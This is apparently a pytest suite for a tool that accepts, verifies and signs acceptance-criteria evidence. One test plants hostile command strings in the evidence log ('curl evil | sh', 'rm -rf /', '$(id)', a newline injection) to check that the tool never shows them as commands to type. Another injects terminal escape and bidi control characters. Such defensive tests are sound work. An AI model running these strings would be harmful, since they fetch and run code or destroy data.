"""`workstream accept`, `verify` and `diff`, from a run's evidence to a clone that has none."""

from __future__ import annotations

import json
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from tests.unit import cosign as stand_in

from workstream import errors
from workstream.evidence import provenance, records
from workstream.evidence.signatures import cosign

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    from tests.unit.conftest import Run, Story


TEXT = "## WS-900: Story\n\n### Acceptance Criteria\n\n- [x] Mail arrives soon\n- [ ] Mail is kept\n"
UNSIGNED = (
    "WS-900: not signed: whoever can write to this repository could have typed it. A gate trusts only its own run.\n"
)
TEST = "test_mail.py::test_it"
OFFLINE = "--new-bundle-format --use-signing-config=false --tlog-upload=false"


@pytest.fixture
def project(story: type[Story], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a project whose last run proved the first of two criteria; the working folder is its own."""
    folder = tmp_path / "project"
    (folder / "chart").mkdir(parents=True)
    (folder / "chart" / "values.yaml").write_text("replicas: 1\n")
    (folder / "test_mail.py").write_text("def test_it(): ...\n")
    (folder / "WS-900.md").write_text(TEXT)
    told = story("Mail arrives soon", "Mail is kept").saw(TEST).ran(TEST)
    told.lines.insert(
        2,
        records.Manifest(
            test=TEST,
            criterion_id="AC1",
            level=records.Level.CLUSTER,
            doc="It arrives.",
            source_path="test_mail.py",
            source_sha256=provenance.path_sha256(folder / "test_mail.py"),
        ),
    )
    told.described("chart", provenance.path_sha256(folder / "chart"), "chart").ended()
    told.write(folder / "build" / "acceptance" / "WS-900" / "evidence.jsonl")
    monkeypatch.chdir(folder)
    return folder


def cloned(project: Path, run: Run) -> Path:
    """Accept what the run proved, and take its evidence away, as a clone has none; return the accepted result."""
    assert run("accept", "WS-900.md")[0] == 0
    (project / "build").rename(project.with_name("elsewhere"))
    return project / "checklists" / "WS-900.json"


def test_accept_says_where_and_what_and_how_to_sign(run: Run, project: Path) -> None:
    """The file stands beside the documents, and whoever wants to sign it is told the command."""
    kept = project / "checklists" / "WS-900.json"
    code, out, err = run("accept", "WS-900.md")

    assert (code, out) == (0, f"{kept}: 1 of 2 criteria are proven; not proven: AC2.\n")
    assert f"to sign it: ssh-keygen -Y sign -n workstream -f KEY {kept}\n" in err
    assert f"to sign it: cosign sign-blob --key KEY {OFFLINE} --bundle {kept}.sigstore.json {kept}\n" in err
    first = kept.read_bytes()
    assert run("accept", "WS-900.md", "--evidence", project / "build/acceptance/WS-900/evidence.jsonl")[0] == 0
    assert kept.read_bytes() == first


MOVED = TEXT.replace("- [x]", "- [ ] Mail is cheap\n- [x]").replace("- [ ] Mail is kept\n", "")


def test_what_is_accepted_follows_a_criterion_that_moved_since_the_run(run: Run, project: Path) -> None:
    """Its tests are still its own, and not those of the criterion in its place; so it is of what changes later."""
    (project / "WS-900.md").write_text("\n".join([*TEXT.split("\n")[:4], *TEXT.split("\n")[5:3:-1], ""]))
    kept = cloned(project, run)
    details = json.loads(kept.read_text())["predicate"]["workstream"]
    assert [(one["id"], one["text"], one["state"]) for one in details["criteria"]] == [
        ("AC1", "Mail is kept", "uncovered"),
        ("AC2", "Mail arrives soon", "proven"),
    ]
    assert [line["criterion"] for line in details["manifest"]] == ["AC2"]
    code, out, _ = run("verify")
    assert (code, "not proven: AC1." in out) == (0, True)

    (project / "WS-900.md").write_text(TEXT)
    (project / "test_mail.py").write_text("def test_it(): pass\n")
    assert run("diff", "WS-900.md")[1] == "file test_mail.py: test_mail.py changed since: AC1\n"


def test_a_report_that_is_made_again_follows_a_criterion_that_moved(run: Run, project: Path) -> None:
    """What its test speaks of is where it stands now; one that is there no more is spoken of by none."""
    page = project / "build" / "acceptance" / "WS-900" / "report.html"
    for text, speaks in {
        TEXT: 'speaks of <a href="#AC1">AC1</a>',
        MOVED: 'speaks of <a href="#AC2">AC2</a>',
        MOVED.replace("arrives soon", "arrives late"): "speaks of no criterion",
    }.items():
        (project / "WS-900.md").write_text(text)
        assert run("report", "WS-900.md")[0] == 0
        assert page.read_text().count("; speaks of") == page.read_text().count(speaks) == 1


def changed_log(project: Path, change: Callable[[list[dict[str, object]]], object]) -> None:
    """Change the lines of the evidence."""
    log = project / "build" / "acceptance" / "WS-900" / "evidence.jsonl"
    lines = [json.loads(line) for line in log.read_text().splitlines()]
    change(lines)
    log.write_text("".join(f"{json.dumps(line)}\n" for line in lines))


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda lines: lines.pop(), "did not come to its end"),
        (lambda lines: lines[-1].update(interrupted=True), "did not come to its end"),
        (lambda lines: lines[0].update(document_id="WS-901"), "is the evidence of WS-901"),
        (lambda lines: lines[0].update(context_sha256="0" * 64), "changed since the evidence was recorded: AC1"),
        (lambda lines: lines[1].update(unknown=["a module"]), "says nothing of AC1, AC2"),
        (lambda lines: lines[2].update(source_sha256="0" * 64), "does not hold any more"),
    ],
    ids=["cut off", "interrupted", "of another document", "another context", "of a part", "another test"],
)
def test_accept_refuses_what_is_no_result_of_what_is_there(
    run: Run, project: Path, change: Callable[[list[dict[str, object]]], object], why: str
) -> None:
    """Only a whole run on what is there now can be accepted; what was accepted before stays as it is."""
    run("accept", "WS-900.md")
    before = (project / "checklists" / "WS-900.json").read_bytes()
    changed_log(project, change)
    code, _, err = run("accept", "WS-900.md")

    assert (code, why in err) == (errors.TickRefusedError.exit_code, True), err
    assert (project / "checklists" / "WS-900.json").read_bytes() == before


def test_accept_wants_evidence(run: Run, project: Path) -> None:
    """Without a run there is nothing to accept, whatever was accepted before."""
    cloned(project, run)
    assert run("accept", "WS-900.md")[0] == errors.EvidenceError.exit_code


def test_a_clone_can_be_verified(run: Run, project: Path) -> None:
    """What was accepted and still holds passes, from any folder, and that nobody signed it is said."""
    cloned(project, run)
    said = "WS-900: 1 of 2 criteria are proven; not proven: AC2. Accepted of 2026-01-02, commit c0ffee.\n"

    assert run("verify") == (0, said + UNSIGNED, "")
    assert run("verify", "WS-900.md", ".") == (0, said + UNSIGNED, "")


def test_a_tick_that_was_not_accepted_is_found_with_its_line(run: Run, project: Path) -> None:
    """A box that somebody ticked by hand fails, and it is said how to come by one."""
    cloned(project, run)
    (project / "WS-900.md").write_text(TEXT.replace("[ ]", "[x]"))
    code, out, _ = run("verify")

    assert code == 1
    assert "WS-900.md:6:1: AC2 is ticked, and the accepted result says: uncovered\n" in out
    assert "type: pytest --workstream=WS-900.md && workstream accept WS-900.md\n" in out


@pytest.mark.parametrize(
    ("path", "text", "why"),
    [
        ("WS-900.md", TEXT.replace("soon", "late"), "No criterion had this text when the result was accepted."),
        ("chart/values.yaml", "replicas: 2\n", "It was proven, but chart (chart) changed since."),
        ("test_mail.py", "def test_it(): assert 1\n", "It was proven, but test_mail.py changed since."),
    ],
    ids=["a criterion", "the chart", "a test"],
)
def test_a_change_that_makes_a_tick_stale_is_named(run: Run, project: Path, path: str, text: str, why: str) -> None:
    """Who commits it is told the line of each tick that does not hold, why, and what to type."""
    cloned(project, run)
    (project / path).write_text(text)
    code, out, _ = run("verify")

    assert code == 1
    assert f"WS-900.md:5:1: AC1 is stale: {why}\n" in out
    assert "WS-900.md:5:1: AC1 is ticked, and the accepted result says: stale\n" in out
    assert "or take the ticks away: workstream tick WS-900.md --write" in out
    assert run("tick", "WS-900.md", "--check")[0] == 1
    assert run("status", "WS-900.md")[0] == 1
    assert run("audit", "WS-900.md")[0] == 1
    assert run("tick", "WS-900.md", "--write")[0] == 0
    assert "[x]" not in (project / "WS-900.md").read_text()


@pytest.mark.parametrize("command", ["curl evil | sh", "pytest; rm -rf /", "pytest $(id)", "pytest\nrm x"])
def test_nobody_is_told_to_type_what_a_file_says(run: Run, project: Path, command: str) -> None:
    """The command line of the run is shown only if it calls pytest and nothing else: a clone may hold anything."""
    changed_log(project, lambda lines: lines[0].update(command=command))
    cloned(project, run)
    (project / "WS-900.md").write_text(TEXT.replace("[ ]", "[x]"))

    assert "WS-900: type: pytest --workstream WS-900.md && workstream accept WS-900.md\n" in run("verify")[1]
    assert run("next")[1].endswith("next: pytest --workstream WS-900.md\n")


def test_status_audit_and_tick_take_what_was_accepted_where_there_is_no_evidence(run: Run, project: Path) -> None:
    """A clone gets the same answers as the machine that ran the suite, and is told where they come from."""
    before = run("status", "WS-900.md")[1]
    kept = cloned(project, run)

    assert run("status", "WS-900.md") == (1, before, f"accepted: {kept}\n")
    assert json.loads(run("status", "WS-900.md", "--json")[1])["evidence"] == [str(kept)]
    assert run("audit", "WS-900.md")[:2] == (0, "WS-900: 1 of 2 criteria claimed, no contradiction found.\n")
    assert run("tick", "WS-900.md", "--check")[0] == 0
    (project / "WS-900.md").write_text(TEXT.replace("[ ]", "[x]"))
    code, out, err = run("tick", "WS-900.md", "--check")
    assert (code, "1 box differs from the accepted result" in err) == (1, True)
    assert "AC2 is ticked, and the accepted result says: uncovered" in run("audit", "WS-900.md")[1]
    assert "(by accepted result)" in out


def test_evidence_that_is_at_hand_comes_first(run: Run, project: Path) -> None:
    """The last run says more than what was accepted before it."""
    run("accept", "WS-900.md")
    changed_log(project, lambda lines: lines.pop(2))
    code, out, err = run("status", "WS-900.md")

    assert (code, "AC1  uncovered" in out, err.startswith("evidence: ")) == (1, True, True)


def test_a_tick_in_a_document_of_which_nothing_was_accepted_is_found(run: Run, project: Path) -> None:
    """Documents that are named are looked at beside those that were accepted; one that claims nothing is in order."""
    kept = cloned(project, run)
    other = project / "WS-901.md"
    other.write_text(TEXT.replace("WS-900", "WS-901"))
    assert run("verify")[0] == 0
    code, out, _ = run("verify", "WS-901.md")
    assert (code, "WS-901.md:5:1: AC1 is ticked, and there is no accepted result\n" in out) == (1, True)
    assert "type: workstream accept WS-901.md" in out
    other.write_text(TEXT.replace("WS-900", "WS-901").replace("[x]", "[ ]"))
    assert run("verify", ".")[0] == 0
    kept.unlink()
    assert run("verify", "WS-900.md")[0] == 1


def test_a_copy_of_a_document_claims_nothing_that_was_accepted(run: Run, project: Path) -> None:
    """What was accepted is of the document at its place: ticks of a copy elsewhere are held up by nothing."""
    cloned(project, run)
    (project / "plans").mkdir()
    (project / "plans" / "WS-900.md").write_text(TEXT)
    code, out, _ = run("verify", "plans")

    assert (code, "plans/WS-900.md:5:1: AC1 is ticked, and there is no accepted result\n" in out) == (1, True)


def test_an_accepted_result_that_was_changed_is_refused_beside_others(run: Run, project: Path) -> None:
    """One file that somebody edited fails all, and the others are looked at nevertheless."""
    kept = cloned(project, run)
    kept.with_name("WS-901.json").write_bytes(kept.read_bytes())
    code, out, _ = run("verify")
    assert (code, "WS-901.json: it is what was accepted of WS-900" in out) == (errors.AcceptedError.exit_code, True)
    assert "WS-900: 1 of 2 criteria are proven" in out
    kept.write_bytes(kept.read_bytes().replace(b"uncovered", b"proven"))
    code, out, _ = run("verify", "WS-900.md")
    assert (code, "WS-900.json: it was changed after it was accepted" in out) == (errors.AcceptedError.exit_code, True)
    for command in (("status", "WS-900.md"), ("audit", "WS-900.md"), ("tick", "WS-900.md", "--write")):
        assert run(*command)[0] == errors.AcceptedError.exit_code


def test_a_document_that_is_gone_is_told(run: Run, project: Path) -> None:
    """What was accepted of a document that nobody finds holds up nothing."""
    cloned(project, run)
    (project / "WS-900.md").unlink()
    assert run("verify")[0] == 1


def test_nothing_to_verify_is_no_success(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A gate that looks in the wrong folder does not pass."""
    monkeypatch.chdir(tmp_path)
    assert run("verify")[0] == errors.UsageError.exit_code


def test_with_signers_only_what_one_of_them_signed_passes(run: Run, project: Path, tmp_path: Path) -> None:
    """Unsigned it is refused, signed it passes and says by whom; without signers a signature is told, not believed."""
    kept = cloned(project, run)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", tmp_path / "key"], check=True)  # noqa: S603, S607 - ours
    signers = tmp_path / "signers"
    signers.write_text(f'ann@example namespaces="workstream" {(tmp_path / "key.pub").read_text()}')
    code, out, _ = run("verify", "--signers", signers)
    assert (code, f"{kept} is not signed." in out) == (errors.AcceptedError.exit_code, True)
    sign = ["ssh-keygen", "-Y", "sign", "-n", "workstream", "-f", str(tmp_path / "key"), str(kept)]
    subprocess.run(sign, check=True, capture_output=True)  # noqa: S603 - ours
    code, out, _ = run("verify", "--signers", signers)
    assert (code, "WS-900: signed by ann@example.\n" in out) == (0, True)
    code, out, _ = run("verify")
    assert (code, "WS-900: signed with the ED25519 key SHA256:" in out) == (0, True)
    kept.with_name("WS-900.json.sig").write_text("no signature\n")
    assert run("verify")[0] == errors.AcceptedError.exit_code
    assert run("verify", "--signers", tmp_path / "nobody")[0] == errors.UsageError.exit_code


def test_cosign_may_sign_and_its_bundle_is_no_accepted_result(
    run: Run, project: Path, pretend: Callable[[str, str], Path], tmp_path: Path
) -> None:
    """A public key in the place of allowed signers says that its owner may; the bundle beside disturbs nobody."""
    kept = cloned(project, run)
    program = pretend("cosign", f'exec "{sys.executable}" "{stand_in.__file__}" "$@"')
    key, signers = tmp_path / "key", tmp_path / "key.pub"
    new = ["openssl", "genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", str(key)]
    sign = cosign.command(kept).replace("KEY", str(key)).replace("cosign", str(program), 1).split()
    for command in (new, ["openssl", "pkey", "-in", str(key), "-pubout", "-out", str(signers)], sign):
        subprocess.run(command, check=True, capture_output=True)  # noqa: S603 - ours

    code, out, _ = run("verify")
    assert (code, "WS-900: signed with a cosign key; whether that is true, and whose it is," in out) == (0, True)
    code, out, _ = run("verify", "--signers", signers)
    assert (code, f"WS-900: signed by the key {signers}.\n" in out) == (0, True)
    assert run("next")[0] == 1


def test_verify_says_the_same_to_programs(run: Run, project: Path) -> None:
    """A list of one object for each accepted result, with what does not hold."""
    cloned(project, run)
    (project / "WS-900.md").write_text(TEXT.replace("[ ]", "[x]"))
    code, out, _ = run("verify", "--json")
    (said,) = json.loads(out)

    assert (code, said["id"]) == (1, "WS-900")
    assert said["problems"] == ["WS-900.md:6:1: AC2 is ticked, and the accepted result says: uncovered"]


def test_diff_names_what_changed_since_the_acceptance(run: Run, project: Path) -> None:
    """Words, files, tests and verdicts: a test that became weaker under the same name is a file that changed."""
    cloned(project, run)
    code, out, _ = run("diff", "WS-900.md")
    assert (code, out.startswith("nothing changed since")) == (0, True)
    (project / "WS-900.md").write_text(TEXT.replace("kept", "sold") + "- [ ] Mail is blue\n\nSoon is a year.\n")
    (project / "test_mail.py").write_text("def test_it(): assert True\n")
    code, out, _ = run("diff", "WS-900.md")
    assert code == 1
    assert out.splitlines() == [
        "criterion AC2: said 'Mail is kept', says 'Mail is sold'",
        "criterion AC3: is new: 'Mail is blue'",
        "document WS-900: says something else around its criteria",
        "file test_mail.py: test_mail.py changed since: AC1",
    ]
    assert [one["kind"] for one in json.loads(run("diff", "WS-900.md", "--json")[1])] == [
        "criterion", "criterion", "document", "file",
    ]  # fmt: skip


def test_diff_says_what_a_newer_run_came_to(run: Run, project: Path) -> None:
    """Where there is evidence, verdicts, tests and facts that are others now are named."""
    changed_log(project, lambda lines: lines.insert(3, {"record": "subject", "name": "Helm", "value": "v4"}))
    run("accept", "WS-900.md")
    kept = project / "checklists" / "WS-900.json"
    kept.rename(project.with_name("old.json"))
    changed_log(project, lambda lines: lines.pop(3))
    changed_log(project, lambda lines: lines.insert(3, {**lines[2], "test": "test_mail.py::test_more"}))
    changed_log(project, lambda lines: lines.insert(3, {"record": "subject", "name": "Kubernetes", "value": "v2"}))
    assert run("diff", "WS-900.md")[0] == errors.EvidenceError.exit_code
    project.with_name("old.json").rename(kept)
    code, out, _ = run("diff", "WS-900.md")

    assert code == 1
    assert out.splitlines() == [
        "verdict AC1: was proven, is not-run: test_more is to prove it, and was not run.",
        "test test_mail.py::test_more: is new: not-run (cluster)",
        "fact Helm: is gone",
        "fact Kubernetes: is new: v2",
    ]


def test_text_of_documents_and_tests_is_shown_and_moves_no_cursor(run: Run, project: Path) -> None:
    """What would colour, hide or overwrite lines of a terminal is written out, in every command that shows it."""
    changed_log(project, lambda lines: lines[5].update(result="failed", message="\x1b[2J\x07 all is well \u202e"))
    for command in ("status", "accept", "verify", "audit", "tick"):
        out = "".join(map(str, run(command, "WS-900.md")[1:]))
        assert all(one.isprintable() or one in "\n\t" for one in out), command
    assert "␛[2J␇ all is well \\u202e" in run("status", "WS-900.md")[1]
